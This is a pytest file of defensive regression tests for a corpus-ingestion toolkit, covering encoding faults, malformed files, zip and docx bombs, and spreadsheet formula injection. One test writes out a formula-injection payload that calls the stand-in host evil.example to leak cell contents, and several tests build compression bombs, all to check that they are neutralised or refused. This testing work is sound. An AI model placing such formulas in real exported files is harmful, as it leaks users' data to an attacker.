"""Issue 15, input side: one test per defect found by the fault-injection campaign.

Every input is built here in code (small, written by us). Each test failed before its fix.
"""
from __future__ import annotations

import io
import json
import os
import sys
import unicodedata
import zipfile

import pandas as pd
import pytest

from kit.corpus import build_corpus, ingest, load_corpus
from kit.readers import Limits, iter_files, read_sources
from kit.reporting import save_table, table_to_csv

STORY = "Headline Of A Story\n\nThe minister met the delegation on Monday and talked about trade.\n"


def _story(i: int) -> str:
    return f"Headline Number {i}\n\nThe minister met delegation {i} on Monday and talked about trade.\n"


def _report(c) -> list[tuple[str, str, str]]:
    return [(r.source_path, r.status, r.reason) for r in c.report.itertuples()]


# 1. one record sinks the batch ------------------------------------------------------------------

def test_lone_surrogate_escape_is_repaired_flagged_and_written(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "a.jsonl").write_text('{"title": "Bad \\ud800 escape", "text": "Body \\udfff here."}\n'
                                 '{"title": "Good", "text": "Another body."}\n')
    (src / "b.txt").write_text(STORY)
    c = ingest([src], tmp_path / "c.parquet")  # raised UnicodeEncodeError before
    assert len(c.articles) == 3
    bad = c.articles[c.articles.title.str.startswith("Bad")].iloc[0]
    assert bad.title == "Bad \ufffd escape" and bad.text == "Body \ufffd here."
    flags = [r for r in _report(c) if "lone surrogate" in r[2]]
    assert flags == [("a.jsonl", "flagged", flags[0][2])] and flags[0][2].startswith("2 lone surrogate")
    assert len(load_corpus(str(tmp_path / "c.parquet")).articles) == 3


@pytest.mark.skipif(sys.platform != "linux", reason="file names of arbitrary bytes are a POSIX feature")
def test_file_name_that_is_not_utf8_is_read_and_flagged(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    with open(os.path.join(os.fsencode(src), b"caf\xe9.txt"), "w") as f:
        f.write(STORY)
    c = ingest([src], tmp_path / "c.parquet")
    assert c.articles.source_path.tolist() == ["caf\ufffd.txt"]
    assert ("caf\ufffd.txt", "flagged") in [(p, s) for p, s, _ in _report(c)]
    assert load_corpus(str(tmp_path / "c.parquet")).articles.source_path.tolist() == ["caf\ufffd.txt"]


# 9. one normalisation rule -----------------------------------------------------------------------

def test_json_escapes_and_raw_utf8_give_the_same_nfc_text(tmp_path):
    decomposed = "Cafe\u0301 talks"
    (tmp_path / "raw.jsonl").write_text(json.dumps({"title": decomposed, "text": decomposed}, ensure_ascii=False) + "\n")
    (tmp_path / "esc.jsonl").write_text(json.dumps({"title": decomposed, "text": decomposed}, ensure_ascii=True) + "\n")
    (tmp_path / "p.html").write_text("<html><head><title>Cafe&#x301; talks</title></head><body><article>"
                                     "<p>Cafe&#769; talks went on for many hours on Monday, and the delegations "
                                     "agreed to meet again in the autumn to talk about trade.</p></article></body></html>")
    c = build_corpus([tmp_path])
    for text in c.articles.text.tolist() + c.articles.title.tolist():
        assert unicodedata.is_normalized("NFC", text), repr(text)
    assert set(c.articles.title) == {"Café talks"}


# 3. silent losses -----------------------------------------------------------------------------

def test_too_deep_json_line_rejects_that_line_only(tmp_path):
    deep = '{"title": "x", "text": "t", "a": ' + "[" * 5000 + "]" * 5000 + "}"
    (tmp_path / "a.jsonl").write_text('{"title": "One", "text": "First."}\n' + deep + "\n"
                                      '{"title": "Three", "text": "Third."}\n')
    c = build_corpus([tmp_path / "a.jsonl"])
    assert c.articles.title.tolist() == ["One", "Three"]
    rej = c.report[c.report.status == "rejected"]
    assert rej.line.tolist() == [2] and "nested too deeply" in rej.reason.iloc[0]


def test_huge_integer_rejects_that_line_only(tmp_path):
    (tmp_path / "a.jsonl").write_text('{"title": "One", "text": "First."}\n'
                                      '{"title": "Two", "text": "t", "n": ' + "9" * 5000 + "}\n"
                                      '{"title": "Three", "text": "Third."}\n')
    c = build_corpus([tmp_path / "a.jsonl"])
    assert c.articles.title.tolist() == ["One", "Three"]
    rej = c.report[c.report.status == "rejected"]
    assert rej.line.tolist() == [2] and "4300 digits" in rej.reason.iloc[0]


def test_malformed_docx_gets_a_clear_reason(tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<x/>")
    (tmp_path / "bad.docx").write_bytes(buf.getvalue())
    (rej,) = [r for _, r in read_sources([tmp_path / "bad.docx"])]
    assert "Error" not in rej.reason  # was "AttributeError: 'lxml.etree._Element' object has no attribute ..."
    assert rej.reason == "not a readable .docx file: word/document.xml is not a Word document (its root element is 'x')"


@pytest.mark.parametrize("tail", ['B,2023-01-02,"two"\nC,2023-01-03,three\n', "B,2023-01-02,two\nC,2023-01-03,three\n"])
def test_unclosed_csv_quote_never_merges_rows(tmp_path, tail):
    (tmp_path / "a.csv").write_text('title,date,body\nA,2023-01-01,"one\n' + tail)
    c = build_corpus([tmp_path / "a.csv"])
    assert c.articles.title.tolist() == ["B", "C"]
    assert not c.articles.text.str.contains("2023").any()
    rej = c.report[c.report.status == "rejected"]
    assert rej.line.tolist() == [2] and "never closed" in rej.reason.iloc[0]


@pytest.mark.skipif(sys.platform == "win32", reason="carriage returns are not allowed in Windows file names")
def test_carriage_return_in_file_name_survives_the_report_round_trip(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "cr\rname.txt").write_text(STORY)
    ingest([src], tmp_path / "c.parquet")
    back = load_corpus(str(tmp_path / "c.parquet"))
    assert back.report.source_path.tolist() == ["cr\rname.txt"]
    assert back.articles.source_path.tolist() == ["cr\rname.txt"]


def test_exclamation_mark_in_a_file_name_is_not_an_archive_member(tmp_path):
    (tmp_path / "wow!.txt").write_text(STORY)
    c = build_corpus([tmp_path])
    assert c.articles.source_path.tolist() == ["wow!.txt"] and c.articles.source_format.tolist() == ["webcopy"]


def test_symbolic_link_to_a_folder_is_followed_and_a_loop_is_named(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "a.txt").write_text(STORY)
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "linked").symlink_to(tmp_path / "real", target_is_directory=True)
    (tmp_path / "in" / "loop").symlink_to(tmp_path / "in", target_is_directory=True)
    c = build_corpus([tmp_path / "in"])
    assert c.articles.source_path.tolist() == ["linked/a.txt"]
    assert [(p, s) for p, s, r in _report(c) if "loop" in r] == [("loop/", "rejected")]
    assert c.manifest["counts"]["files_seen"] == 2


def _zip(path, members):
    with zipfile.ZipFile(path, "w") as z:
        for name, text in members:
            z.writestr(name, text)


def test_empty_zip_and_zip_of_hidden_members_are_accounted_for(tmp_path):
    _zip(tmp_path / "empty.zip", [])
    _zip(tmp_path / "hidden.zip", [(".a.txt", STORY), ("__MACOSX/._b.txt", "x")])
    c = build_corpus([tmp_path])
    reasons = {p: r for p, s, r in _report(c)}
    assert reasons["empty.zip"] == "empty archive (it holds no files)"
    assert "only hidden or system files" in reasons["hidden.zip"] and ".a.txt" in reasons["hidden.zip"]
    assert c.manifest["counts"]["files_seen"] == 2 and c.manifest["counts"]["files_rejected"] == 2
    assert sorted(c.manifest["skipped"]) == ["hidden.zip!.a.txt", "hidden.zip!__MACOSX/._b.txt"]


def test_two_zip_members_with_the_same_name_are_both_read(tmp_path):
    with pytest.warns(UserWarning):
        _zip(tmp_path / "dup.zip", [("a.txt", _story(1)), ("a.txt", _story(2))])
    c = build_corpus([tmp_path / "dup.zip"])
    assert c.articles.title.tolist() == ["Headline Number 1", "Headline Number 2"]
    assert c.articles.source_path.tolist() == [f"{tmp_path / 'dup.zip'}!a.txt", f"{tmp_path / 'dup.zip'}!a.txt#2"]


# 2. zip and docx bombs ----------------------------------------------------------------------

def test_zip_bomb_is_refused_before_it_is_read(tmp_path):
    with zipfile.ZipFile(tmp_path / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("big.txt", b"a" * (4 * 2**20))  # 4 MiB of one letter compresses ~1000:1
        z.writestr("ok.txt", STORY)
    c = build_corpus([tmp_path / "bomb.zip"])
    assert c.articles.title.tolist() == ["Headline Of A Story"]
    (reason,) = [r for p, s, r in _report(c) if p.endswith("!big.txt")]
    assert "compression ratio" in reason and "zip bomb" in reason and "--max-ratio" in reason
    # the limit can be raised
    c2 = build_corpus([tmp_path / "bomb.zip"], limits=Limits(max_ratio=1e6))
    assert not any("compression ratio" in r for _, _, r in _report(c2))


def test_member_over_the_size_limit_is_refused_even_when_the_directory_lies(tmp_path):
    _zip(tmp_path / "a.zip", [("a.txt", "x" * 5000 + "\n\nBody.")])
    limits = Limits(max_file_bytes=1000, ratio_floor=10**9)
    (rej,) = [r for r in iter_files([tmp_path / "a.zip"], limits=limits)]
    assert "over the limit" in rej.reason and "--max-file-mb" in rej.reason
    # a directory that understates the size: stopped while reading, not after
    from kit.readers import _read_limited

    with zipfile.ZipFile(tmp_path / "a.zip") as z:
        info = z.infolist()[0]
        info.file_size = 10
        from kit.readers.base import TooBig

        with pytest.raises((TooBig, zipfile.BadZipFile)):
            _read_limited(z, info, limits)


def test_docx_bomb_is_refused_before_python_docx_opens_it(tmp_path):
    with zipfile.ZipFile(tmp_path / "bomb.docx", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"<w:document>" + b" " * (40 * 2**20) + b"</w:document>")
    (rej,) = [r for _, r in read_sources([tmp_path / "bomb.docx"])]
    assert "compression ratio" in rej.reason and "word/document.xml" in rej.reason


def test_files_are_read_one_at_a_time(tmp_path):
    for i in range(3):
        (tmp_path / f"{i}.txt").write_text(_story(i))
    files = list(iter_files([tmp_path]))
    assert all(not hasattr(f, "__dict__") or "data" not in vars(f) for f in files)  # no bytes held
    assert files[0].read() == _story(0).encode()


# 10. deep HTML -------------------------------------------------------------------------------

def test_html_nested_deeper_than_the_parser_limit_is_read(tmp_path):
    body = ("The minister met the delegation on Monday and talked about trade for many hours, "
            "and both sides said they would meet again soon.")
    page = ("<html><head><title>Deep Page</title></head><body>" + "<div>" * 400 + f"<article><p>{body}</p></article>"
            + "</div>" * 400 + "</body></html>")
    (tmp_path / "deep.html").write_text(page)
    c = build_corpus([tmp_path / "deep.html"])
    assert c.articles.text.tolist() == [body]  # was rejected as "no article text found"
    assert any("nested" in r and s == "flagged" for _, s, r in _report(c))


# 8. spreadsheet formula injection ------------------------------------------------------------

def test_save_table_neutralises_formulas_by_default(tmp_path):
    df = pd.DataFrame({"title": ['=HYPERLINK("https://evil.example/?leak="&A1, "x")', "+1", "-x", "@sum", "\tx", "ok"],
                       "n": [-1, 2, 3, 4, 5, 6]})
    text = save_table(df, tmp_path, "t").read_text()
    rows = list(pd.read_csv(io.StringIO(text), keep_default_na=False).title)
    assert rows == ["'" + t for t in df.title[:5]] + ["ok"]
    assert ",-1\n" in text  # numbers untouched
    assert table_to_csv(df, neutralise_formulas=False).splitlines()[1].startswith('"=HYPERLINK')


def test_corpus_report_neutralises_and_reads_back_exactly(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "=cmd.txt").write_bytes(b"\x00\x01binary")
    ingest([src], tmp_path / "c.parquet")
    raw = (tmp_path / "c.report.csv").read_text()
    assert "\"'=cmd.txt\"" in raw
    assert load_corpus(str(tmp_path / "c.parquet")).report.source_path.tolist() == ["=cmd.txt"]


def test_cli_limits_can_be_raised(tmp_path, capsys):
    from kit.cli import main

    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("big.txt", b"Headline\n\n" + b"a " * (2 * 2**20))
    assert main(["ingest", str(tmp_path / "a.zip"), "--out", str(tmp_path / "c.parquet")]) == 1
    assert "raise it with --max-ratio" in capsys.readouterr().err
    assert main(["ingest", str(tmp_path / "a.zip"), "--out", str(tmp_path / "d.parquet"), "--max-ratio", "100000"]) == 0


def test_coding_sheet_neutralises_formulas_and_reads_back_exactly(tmp_path):
    from kit.frames.coded.sheet import read_coding_sheet, write_coding_sheet

    sheet = pd.DataFrame({"doc_id": ["a"], "coder": ["ann"], "title": ["=HYPERLINK(\"x\")"], "conflict": ["1"]})
    out = write_coding_sheet(sheet, tmp_path, codebook=False)
    assert "'=HYPERLINK" in out["sheet"].read_text()
    assert read_coding_sheet(out["sheet"]).code.tolist() == [1]
